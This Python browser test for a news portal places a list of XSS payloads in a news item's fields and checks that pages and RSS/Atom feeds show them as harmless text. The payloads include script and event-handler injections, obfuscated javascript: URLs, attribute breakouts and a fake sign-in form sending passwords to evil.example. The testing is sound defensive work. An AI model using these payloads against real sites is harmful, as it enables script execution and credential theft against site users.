"""Hostile text in every field of a news item, opened in a real browser where readers see it.

Each payload goes into the title, summary, body and image description of one published item.
Its page, the news list, the home page and both feeds must then show it as harmless text:
nothing runs (no `window.__pwned`, no dialog, no console error, which is also how a script
blocked by the CSP would show), and the DOM has nothing that could run or mislead. The title
and summary must still read exactly as typed, so they are escaped rather than dropped; in the
feeds too, where a reader renders the summary as HTML.

The checks read the DOM the browser built, not the HTML sent, so they see what a parser made
of broken-out attributes and obfuscated URLs. Each payload gets a fresh database and one item
(so it is the newest, on the home page too); the portal's system is made by the factory
instead of loading all the partnership data, to keep the whole table quick.
"""

import datetime
import xml.etree.ElementTree as ET

import pytest
from django.conf import settings
from django.utils import timezone

from tests.factories import make_image, make_news_item, make_system

PWNED = "window.__pwned=1"

PAYLOADS = {
    "script": f"<script>{PWNED}</script>",
    "img onerror": f'<img src=x onerror="{PWNED}">',
    "img onerror alert": "<img src=x onerror=alert(1)>",
    "markdown javascript link": f"[click](javascript:{PWNED})",
    "markdown JaVaScRiPt link": f"[click](JaVaScRiPt:{PWNED})",
    "markdown javascript image": f"![x](javascript:{PWNED})",
    "iframe javascript": f'<iframe src="javascript:{PWNED}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{PWNED}</script>"></iframe>',
    "svg onload": f'<svg onload="{PWNED}"></svg>',
    "tab in javascript": f'<a href="jav&#x09;ascript:{PWNED}">x</a>',
    "entity javascript": f'<a href="&#106;avascript:{PWNED}">x</a>',
    "attribute breakout": f'"><script>{PWNED}</script>',
    "single-quoted attribute breakout": f"'><img src=x onerror={PWNED}>",
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">covered</p>',
    "form": (
        '<form action="https://evil.example/steal"><input name="password">'
        "<button>Sign in</button></form>"
    ),
    "details ontoggle": f"<details open ontoggle={PWNED}>x</details>",
    "markdown autolink": f"<javascript:{PWNED}>",
    "markdown reference link": f"[click][1]\n\n[1]: javascript:{PWNED}",
    "markdown data link": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "data html link": f'<a href="data:text/html,<script>{PWNED}</script>">x</a>',
    "object": f'<object data="javascript:{PWNED}"></object>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{PWNED}">',
    "base href": '<base href="https://evil.example/">',
    "harmless text": "Fish & chips <3 \"quoted\" 'single' <b>not bold</b> 5 > 4",
}

# Read from the DOM the browser built. The page's own scripts are the module in <head>, the
# classic script before it that marks the page as enhanced (static/js/supported.js) and,
# on the home page, its JSON-LD; the only forms in <main> are the site's own: the news list's
# filter form (no action: it filters this page) and the home page's postcode finder (a GET to
# /find-your-place/).
OWN_FORMS = {
    "/news/": ("form:has(#id_place)", None),
    "/": ("form:has(#id_postcode)", "/find-your-place/"),
}
FIND_PROBLEMS = """([ownForm, ownAction]) => {
  const problems = [];
  const describe = (el) => el.outerHTML.slice(0, 160);
  const main = document.querySelector("main");
  if (typeof window.__pwned !== "undefined") problems.push("window.__pwned is set");
  const forbidden = "script, iframe, frame, frameset, object, embed, style, link, meta, base,"
    + " svg, math, template, img:not([src^='/media/images/'])";
  for (const el of main.querySelectorAll(forbidden)) problems.push(`in <main>: ${describe(el)}`);
  const form = ownForm ? main.querySelector(ownForm) : null;
  const forms = [...main.querySelectorAll("form, input, button, select, textarea")];
  for (const el of forms) {
    if (!(form && form.contains(el))) {
      problems.push(`form control in <main>: ${describe(el)}`);
    }
  }
  const action = form ? form.getAttribute("action") : null;
  if (ownForm && (!form || action !== ownAction || form.method !== "get")) {
    problems.push(`the page's own form is missing or changed: ${ownForm}`);
  }
  const ownScript = "script[type=module][src^='/static/'],"
    + " head script[src^='/static/js/supported.'], head script[type='application/ld+json']";
  for (const el of document.querySelectorAll("script")) {
    if (!el.matches(ownScript)) problems.push(`script: ${describe(el)}`);
  }
  for (const el of document.querySelectorAll("base, meta[http-equiv]")) {
    problems.push(`in the document: ${describe(el)}`);
  }
  const urlAttributes = ["href", "src", "action", "formaction", "data", "xlink:href"];
  for (const el of document.querySelectorAll("*")) {
    for (const attribute of el.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) problems.push(`event handler ${name}: ${describe(el)}`);
      if (name === "style") problems.push(`style attribute: ${describe(el)}`);
      // Browsers ignore whitespace and control characters inside a URL's scheme.
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (urlAttributes.includes(name) && /^(javascript|data|vbscript):/.test(value)) {
        problems.push(`${name}=${attribute.value}: ${describe(el)}`);
      }
    }
  }
  return problems;
}"""


# What a feed reader makes of a summary: RSS <description> and Atom <summary type="html"> are
# HTML, so the reader parses it (here inertly: DOMParser runs nothing) and shows its text.
READ_AS_HTML = """(html) => {
  const body = new DOMParser().parseFromString(html, "text/html").body;
  const elements = [...body.querySelectorAll("*")].map((el) => el.tagName);
  return {text: body.textContent, elements};
}"""


@pytest.fixture
def media_root(settings, tmp_path):
    """Uploaded images go to a temporary folder, not the project's media/."""
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def dialogs(page) -> list[str]:
    """Messages of alert, confirm and prompt dialogs the page opened (each dismissed)."""
    opened = []

    def on_dialog(dialog):
        opened.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return opened


def feed_entry(page, url: str, item_url: str) -> dict[str, str]:
    """The title, link and summary (or RSS description) of the item's entry in a feed."""
    response = page.request.get(url)
    assert response.ok, f"{url}: {response.status}"
    root = ET.fromstring(response.body())  # noqa: S314 (our own feed, from the test server)
    atom = "{http://www.w3.org/2005/Atom}"
    for entry in root.iterfind("channel/item"):
        if entry.findtext("link") == item_url:
            return {"title": entry.findtext("title"), "summary": entry.findtext("description")}
    for entry in root.iterfind(f"{atom}entry"):
        if entry.find(f"{atom}link").get("href") == item_url:
            return {
                "title": entry.findtext(f"{atom}title"),
                "summary": entry.findtext(f"{atom}summary"),
            }
    pytest.fail(f"{item_url} is not in {url}")


@pytest.mark.browser
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_text_in_a_news_item_shows_as_text_and_runs_nowhere(
    payload,
    live_server,
    transactional_db,
    media_root,
    page,
    dialogs,
    console_errors,
    failed_requests,
    subtests,
):
    make_system(slug=settings.PORTAL_SYSTEM_SLUG)
    item = make_news_item(
        title=payload,
        summary=payload,
        body=f"{payload}\n\nThe body goes on after it.",
        picture=make_image(size=(400, 200), alt_text=payload, credit=payload),
        publish_at=timezone.now() - datetime.timedelta(minutes=5),
    )
    item_path = item.get_absolute_url()

    for name, path in [("item page", item_path), ("news list", "/news/"), ("home page", "/")]:
        with subtests.test(page=name):
            for seen in (dialogs, console_errors, failed_requests):
                seen.clear()
            response = page.goto(live_server.url + path)
            assert response.status == 200
            problems = page.evaluate(FIND_PROBLEMS, OWN_FORMS.get(path, (None, None)))
            assert problems == []
            assert dialogs == []
            assert console_errors == []
            assert failed_requests == []
            main = page.locator("main")
            assert main.locator("h1").is_visible()
            if path == item_path:
                assert main.locator("h1").text_content() == payload
                assert main.locator(".nhsuk-lede-text").text_content() == payload
                assert main.locator("img").get_attribute("alt") == payload
                assert "The body goes on after it." in main.inner_text()
                assert page.locator("head > title").text_content().startswith(f"{payload} – ")
                description = page.locator("meta[name=description]").get_attribute("content")
                assert description == payload
            else:
                entry = main.locator("li").filter(has=page.locator(f"a[href='{item_path}']"))
                assert entry.locator("h3").text_content() == payload
                assert entry.locator("p").last.text_content() == payload

    item_url = live_server.url + item_path
    for name, path in [("RSS", "/news/feed/"), ("Atom", "/news/atom/")]:
        with subtests.test(page=name):
            for seen in (dialogs, console_errors):
                seen.clear()
            entry = feed_entry(page, live_server.url + path, item_url)
            assert entry["title"] == payload
            # The summary is plain text; the feed's description is HTML that readers render.
            read = page.evaluate(READ_AS_HTML, entry["summary"])
            assert read == {"text": payload, "elements": []}
            page.goto(live_server.url + path)
            assert page.evaluate("typeof window.__pwned") == "undefined"
            assert dialogs == []
            assert console_errors == []
